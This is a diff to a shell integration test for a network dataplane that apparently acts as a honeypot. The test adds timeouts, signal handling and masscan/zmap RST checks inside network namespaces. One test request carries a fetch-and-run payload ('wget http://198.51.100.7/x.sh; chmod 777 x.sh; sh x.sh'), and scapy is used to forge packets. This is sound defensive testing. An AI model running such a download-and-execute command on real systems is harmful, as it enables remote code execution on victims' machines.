@@ -90,7 +90,9 @@ conf "$T/replay.yaml" "$T/replay.x" "  ports: []"
 
 "$DUMP" --timeout 300 --no-sources "$T/live.x" > "$T/live.json" 2> "$T/live.dump.log" &
 DUMPPID=$!
-nsx "$DP" -c "$T/live.yaml" > "$T/live.dp.log" 2>&1 &
+# ip netns exec execs obscura-dp: $! is its pid (a shell function here would leave a
+# subshell pid, and SIGTERM would orphan the dataplane)
+ip netns exec "$NS" "$DP" -c "$T/live.yaml" > "$T/live.dp.log" 2>&1 &
 DPPID=$!
 for i in $(seq 1 300); do
 	grep -q "running:" "$T/live.dp.log" && break
@@ -99,12 +101,14 @@ for i in $(seq 1 300); do
 done
 grep -q "running:" "$T/live.dp.log" || fail "obscura-dp not running after 30 s"
 # every frame of phases 1-4 on the client side; SYN-ACKs only during the flood
-nsx tcpdump -i "$IFB" -nn -s 0 -U -w "$T/client.pcap" > "$T/tcpdump.log" 2>&1 &
+# (background jobs of a script ignore SIGINT: tcpdump is run by ip netns exec itself, so
+# $! is tcpdump, and stopped with SIGTERM)
+ip netns exec "$NS" tcpdump -i "$IFB" -nn -s 0 -U -w "$T/client.pcap" > "$T/tcpdump.log" 2>&1 &
 TCPDPID=$!
 sleep 1
 
 echo "# 1. the kernel's TCP stack: every address of H, ports 80 2323 40000, a request each"
-nsx $PY - "$T/clients.json" $H_ARP $H_GW > "$T/clients.log" 2>&1 <<'EOP' || fail "kernel clients"
+nsx timeout 90 $PY - "$T/clients.json" $H_ARP $H_GW > "$T/clients.log" 2>&1 <<'EOP' || fail "kernel clients"
 import json, socket, sys, time
 out, addrs = sys.argv[1], sys.argv[2:]
 REQ = b"cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh\r\n"
@@ -143,18 +147,25 @@ nsx curl -s -m 5 -o /dev/null "http://198.18.1.3:8080/?q=wget%20x;chmod%20x" ; r
 [ $rc -eq 56 ] || fail "curl exit $rc, want 56 (connection reset after the handshake)"
 
 echo "# 2. masscan and zmap"
-nsx masscan 198.18.1.0/29 -p 21,5900 --rate 200 -e "$IFB" --source-ip $MASSCAN_IP \
-	--router-mac "$MACA" --wait 2 -oL "$T/masscan.txt" > "$T/masscan.log" 2>&1 || fail "masscan"
-nm=$(grep -c '^open tcp' "$T/masscan.txt")
-[ "$nm" -eq 16 ] || fail "masscan found $nm open ports, want 16 (8 addresses x 2 ports)"
+# masscan 1.3.2 can keep "waiting" past --wait in a namespace (its receive thread blocks
+# on a quiet link, and one SIGINT only starts its own wait): SIGINT after 15 s, SIGKILL
+# 5 s later; what it found is checked from its status line and, below, on the wire
+nsx timeout -s INT -k 5 15 masscan 198.18.1.0/29 -p 21,5900 --rate 200 -e "$IFB" \
+	--source-ip $MASSCAN_IP --router-mac "$MACA" --wait 2 -oL "$T/masscan.txt" \
+	> "$T/masscan.out" 2>&1; rc=$?
+tr '\r' '\n' < "$T/masscan.out" | grep -v '^rate:' > "$T/masscan.log"
+nm=$(tr '\r' '\n' < "$T/masscan.out" | sed -n 's/.*found=\([0-9]*\).*/\1/p' | tail -1)
+echo "masscan exit $rc, found=${nm:-?}"
+case $rc in 0|124|130|137) ;; *) fail "masscan exit $rc" ;; esac   # 137: the SIGKILL above
+[ "${nm:-0}" -eq 16 ] || fail "masscan found ${nm:-0} open ports, want 16 (8 addresses x 2 ports)"
 : > "$T/zmap-bl.txt"
-nsx zmap -p 8443 -i "$IFB" -G "$MACA" -S $CLI -r 200 -b "$T/zmap-bl.txt" -c 2 -q \
+nsx timeout 60 zmap -p 8443 -i "$IFB" -G "$MACA" -S $CLI -r 200 -b "$T/zmap-bl.txt" -c 2 -q \
 	-o "$T/zmap.txt" 198.18.17.0/30 > "$T/zmap.log" 2>&1 || fail "zmap"
 nz=$(grep -c '^198\.18\.17\.' "$T/zmap.txt")
 [ "$nz" -eq 4 ] || fail "zmap found $nz open, want 4"
 
 echo "# 3. what is not answered; forged ACKs"
-nsx $PY - "$IFB" "$MACA" $CLI $EXCL > "$T/probes.log" 2>&1 <<'EOP' || fail "probes"
+nsx timeout 60 $PY - "$IFB" "$MACA" $CLI $EXCL > "$T/probes.log" 2>&1 <<'EOP' || fail "probes"
 import random, sys, time
 from scapy.all import Ether, IP, TCP, sendp
 ifb, maca, cli, excl = sys.argv[1:5]
@@ -187,8 +198,8 @@ for p in pk + forged:
 print("not-answered probes", len(pk), "forged", len(forged))
 EOP
 sleep 1
-kill -INT $TCPDPID; wait $TCPDPID; TCPDPID=
-nsx tcpdump -i "$IFB" -nn -U -w "$T/flood-synack.pcap" \
+kill -TERM $TCPDPID; wait $TCPDPID; TCPDPID=
+ip netns exec "$NS" tcpdump -i "$IFB" -nn -U -w "$T/flood-synack.pcap" \
 	'tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack)' > "$T/tcpdump2.log" 2>&1 &
 TCPDPID=$!
 sleep 0.5
@@ -201,7 +212,7 @@ HP=$!
 sleep 1; rss1=$(rss); sleep 1.8; rss2=$(rss)
 wait $HP
 sleep 1
-kill -INT $TCPDPID; wait $TCPDPID; TCPDPID=
+kill -TERM $TCPDPID; wait $TCPDPID; TCPDPID=
 echo "RSS kB: before $rss0, flood 1 s $rss1, flood 2.8 s $rss2"
 [ $((rss2 - rss1)) -le 1024 ] || fail "RSS grew by $((rss2 - rss1)) kB during the flood"
 nflood=$(tcpdump -r "$T/flood-synack.pcap" -nn 2>/dev/null | wc -l)
@@ -249,8 +260,8 @@ for r in synacks:
     no, esrc, edst, src, dst, sp, dp, fl, seq, ack, mss, ipck, tcpck = r[:13]
     why = []
     if not inH(src): why.append("source outside H")
-    if ipck != "2": why.append("IPv4 checksum status %s" % ipck)     # 2 = good
-    if tcpck != "2": why.append("TCP checksum status %s" % tcpck)
+    if ipck != "1": why.append("IPv4 checksum status %s" % ipck)     # 1 = good (0 bad, 2 unverified)
+    if tcpck != "1": why.append("TCP checksum status %s" % tcpck)
     if not mss: why.append("no MSS option")
     k = (dst, src, dp, sp)
     if k not in syns: why.append("no SYN it answers")
@@ -274,6 +285,18 @@ missing = [k for k in syns if inH(k[1]) and k[0] in ("192.0.2.10", "192.0.2.11")
 dup = [k for k, n in answered.items() if k in syns and n > syns[k][1]]
 assert not missing, ("SYNs to H not answered", missing[:5])
 assert not dup, ("more SYN-ACKs than SYNs", dup[:5])
+# masscan (own stack, 192.0.2.11) and zmap (the kernel of 192.0.2.10 answers the
+# unsolicited SYN-ACK) close every handshake they were offered with an RST
+def rsts(src, ports):
+    return {(r[4], r[6]) for r in rows if r[7] and int(r[7], 16) & 0x04 and r[3] == src
+            and inH(r[4]) and int(r[6]) in ports}
+sa = lambda dst, ports: {(r[3], r[5]) for r in synacks if r[4] == dst and int(r[5]) in ports}
+ms, mr = sa("192.0.2.11", (21, 5900)), rsts("192.0.2.11", (21, 5900))
+zs, zr = sa("192.0.2.10", (8443,)), rsts("192.0.2.10", (8443,))
+print("masscan: SYN-ACKs from", len(ms), "(addr, port), RSTs to", len(mr),
+      "; zmap: SYN-ACKs", len(zs), "RSTs", len(zr))
+assert len(ms) == 16 and mr == ms, ("masscan", sorted(ms ^ mr))
+assert len(zs) == 4 and zr == zs, ("zmap", sorted(zs ^ zr))
 arp_h = {a for a, m in arp_replies if inH(a) and m == maca}
 print("ARP replies for H:", sorted(arp_h))
 assert {"198.18.1.%d" % i for i in range(8)} <= arp_h, "ARP not answered for every on-link address of H"
